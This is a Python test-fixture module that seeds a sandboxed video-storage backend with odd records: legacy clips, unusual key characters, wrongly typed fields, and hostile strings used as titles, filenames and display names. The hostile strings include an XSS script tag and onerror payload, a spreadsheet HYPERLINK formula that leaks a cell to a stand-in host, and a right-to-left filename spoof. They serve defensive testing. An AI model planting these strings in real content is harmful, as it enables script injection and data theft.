"""Stories about unusual data: clips of older deployments, keys with every letter, hostile strings, wrong types."""

from __future__ import annotations

from datetime import timedelta

from storage.domain.layout import ClipName
from storage.sandbox.world.accounts import uid_of
from storage.sandbox.world.clips import add_clip, add_with_clips
from storage.sandbox.world.draft import Draft, Fields
from storage.sandbox.world.model import Story
from storage.sandbox.world.videos import ABSENT, Order, add_video

DAY = timedelta(days=1)
MARKDOWN = (
    "![pixel](https://example.invalid/pixel.png) **bold** [click me](https://example.invalid/steal) "
    ":material/delete: :red[red] $x^2$"
)
HTML = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\"> & <b>bold</b>"
FORMULA = '=HYPERLINK("https://example.invalid/?leak="&A1,"Quarterly report")'
REVERSED = "invoice_\u202egpj.4pm\u202c \u200f(right to left)\u200e"
CONTROLS = "bell \x07 escape \x1b[31mred\x1b[0m tab \t line\nbreak zero\u200bwidth"
STACKED = (
    "Z\u0338\u0322\u031ba\u0337\u0321l\u0334\u0328g\u0336\u0330o\u0335\u0355 "
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f4\U000e0067\U000e0062\U000e0073\U000e007f"
)
NAN = float("nan")  # one object, so that two worlds compare equal
KEY_TITLES = (
    "café au lait",
    "100% + more",
    "#1 of 3 & co",
    "naïve? yes=no",
    "Жёлтый_кадр",
    "e\u0301tude (nfd)",
    "it's ~fine~;ok",
)


def add_odd_stories(draft: Draft) -> None:
    """All of them."""
    _legacy(draft)
    _keys(draft)
    _hostile(draft)
    _wrong_types(draft)


def _legacy(draft: Draft) -> None:
    old: Fields = {
        "filename": "",
        "updated_at": ABSENT,
        "has_thumbnail": ABSENT,
        "created_by": ABSENT,
        "raw_r2_key": ABSENT,
    }
    order = Order("bjorn", "legacy clips", 300 * DAY, title="Åtta år på sjön", highlights="object", short_id=True)
    video = add_video(draft, order, crop_mode=ABSENT, target_aspect=ABSENT, created_by=ABSENT)
    clips = [add_clip(draft, video, *wanted, **old) for wanted in video.ordered()]
    shows = "Clips of an older deployment: empty filename, no updated_at, no has_thumbnail"
    draft.tell(Story("legacy_clips", video.uid, shows, video.video_id, clips[0].clip_id, "healthy", key=clips[0].key))
    order = Order("bjorn", "without size", 310 * DAY, title="Höst över Öland", highlights="object", short_id=True)
    video = add_video(draft, order)
    for number, scene, style in video.ordered():
        changes: Fields = {"file_size_bytes": ABSENT, "file_size_mb": ABSENT} if number in {1, 3} else {}
        clip = add_clip(draft, video, number, scene, style, **changes)
    shows = "Two of four clips have no file_size_bytes: sums over them are lower bounds"
    draft.tell(Story("without_size", video.uid, shows, video.video_id, clip.clip_id, "healthy"))
    order = Order("agnes", "without prefix", 200 * DAY, title="Le pont des brumes", highlights="object", short_id=True)
    video, clips = add_with_clips(draft, order)
    shows = "Everything of this customer lies without the prefix 'users/'; the documents name those keys"
    draft.tell(Story("without_prefix", video.uid, shows, video.video_id, clips[0].clip_id, "healthy", key=clips[0].key))


def _keys(draft: Draft) -> None:
    order = Order(
        "rene", "keys", 250 * DAY, scenes=4, title="Clés & caractères : « tout » est permis", highlights="object"
    )
    video = add_video(draft, order)
    for (number, scene, style), title in zip(video.ordered(), KEY_TITLES, strict=False):
        clip = add_clip(draft, video, number, scene, style, name=ClipName(number, scene.number, title, style))
        shows = f"A key with unusual characters: {title!r}"
        name = f"key_{number}"
        draft.tell(Story(name, video.uid, shows, video.video_id, clip.clip_id, "healthy", key=clip.key))


def _hostile(draft: Draft) -> None:
    uid = uid_of("hostile")
    draft.documents[f"users/{uid}"]["settings"] = {"display_name": HTML, "note": MARKDOWN, FORMULA: REVERSED}
    titles = (
        ("markdown", MARKDOWN),
        ("html", HTML),
        ("formula", FORMULA),
        ("reversed", REVERSED),
        ("controls", CONTROLS),
    )
    for number, (kind, title) in enumerate((*titles, ("stacked", STACKED))):
        video = add_video(draft, Order("hostile", f"hostile {kind}", (2 + number) * DAY, title=title, scenes=1))
        for wanted in video.ordered():
            clip = add_clip(
                draft, video, *wanted, scene_title=title, scene_description=title * 3, filename=f"{title}.mp4"
            )
        shows = f"Titles and descriptions that are {kind}"
        draft.tell(Story(f"hostile_{kind}", uid, shows, video.video_id, clip.clip_id, "healthy"))
    message = f"Traceback: {HTML} {MARKDOWN} " + "worker died while encoding; " * 3_564
    order = Order("hostile", "hostile error", 12 * DAY, "failed", highlights="none", title="A very long error message")
    video = add_video(draft, order, error_message=message)
    draft.tell(
        Story(
            "hostile_error",
            uid,
            "An error message of some 100,000 characters",
            video.video_id,
            verdict="failed_transient",
        )
    )


def _wrong_types(draft: Draft) -> None:
    order = Order("hostile", "wrong types", 14 * DAY, title="Fields of other types")
    changes: Fields = {
        "clips_count": "three",
        "total_size_bytes": None,
        "clips_by_style": [],
        "created_at": "2024-02-30",
    }
    video, clips = add_with_clips(draft, order, **changes, highlights_count=-1, custom_prompt={"not": ["a", "text"]})
    draft.documents[clips[0].path] |= {"style": "holo_wall_9000", "priority": "first", "duration_seconds": NAN}
    draft.documents[clips[1].path] |= {"status": "archived", "created_at": None, "scene_id": 1.5}
    shows = "Fields hold another type than the backend writes; an unknown style and an unknown clip status"
    draft.tell(Story("wrong_types", video.uid, shows, video.video_id, clips[0].clip_id))
    video = add_video(
        draft, Order("hostile", "unknown status", 15 * DAY, "queued_v2", title="A status from the future")
    )
    draft.tell(Story("unknown_status", video.uid, "The status is one that is not known", video.video_id))
